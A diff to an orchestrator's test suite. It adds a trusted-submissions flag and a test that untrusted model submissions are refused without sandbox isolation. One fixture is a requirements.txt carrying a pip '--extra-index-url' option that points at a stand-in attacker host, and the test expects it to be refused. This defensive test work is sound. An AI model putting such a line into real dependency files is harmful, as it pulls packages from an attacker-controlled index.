@@ -29,6 +29,8 @@ describe('Orchestrator (fake model processes)', () => {
       cacheDir: join(root, 'envs'),
       stateDir: join(root, 'state'),
       limits: { memoryBytes: null },
+      // Fake interpreters and model processes: the sandbox is exercised by test/orchestrator-sandbox.test.ts.
+      trustedSubmissions: true,
       watchIntervalMs: 50,
       stopGraceMs: 1_000,
       ...options,
@@ -46,6 +48,23 @@ describe('Orchestrator (fake model processes)', () => {
     await orchestrator?.stop();
     orchestrator = undefined;
     rmSync(root, { recursive: true, force: true });
+  });
+
+  it('refuses to start submissions without isolation unless they are marked trusted, and says why', async () => {
+    submission('a');
+    submission('b', { 'requirements.txt': 'condorgame==0.5.3\n--extra-index-url https://evil.example/simple\n' });
+    const o = await start({
+      trustedSubmissions: false,
+      isolation: { kind: 'none', reason: 'bubblewrap (bwrap) is not installed' },
+    });
+    const failed = await waitForModel(o, 'a', (s) => s.phase === 'failed', 10_000);
+    expect(failed.lastError).toMatch(/not started: bubblewrap \(bwrap\) is not installed.*--trusted-submissions/);
+    expect(failed.pid).toBeNull();
+    await o.stop();
+    const trusted = await start({ allowRequirementOptions: false });
+    const refused = await waitForModel(trusted, 'b', (s) => s.phase === 'failed', 10_000);
+    expect(refused.lastError).toMatch(/requirements.txt is refused: line 2 .*is a pip option/);
+    await waitForModel(trusted, 'a', (s) => s.phase === 'running', 30_000);
   });
 
   it('restarts a crashing model with exponential backoff up to its cap, and runs it once fixed', async () => {
